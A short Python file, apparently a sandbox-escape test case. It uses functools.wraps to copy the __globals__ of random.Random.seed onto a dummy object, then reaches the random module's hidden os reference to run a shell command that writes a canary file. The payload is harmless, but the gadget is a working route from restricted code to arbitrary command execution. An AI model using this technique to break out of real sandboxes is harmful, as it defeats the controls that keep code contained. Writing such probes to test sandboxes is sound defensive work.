# source: own
# effect: process

import functools
import random


class Box:
    pass


found = functools.wraps(random.Random.seed, assigned=("__globals__",))(Box())
for value in vars(found).values():
    if type(value) is dict:
        value["_os"].system("echo library_runners/wraps_globals > /tmp/canary/process")
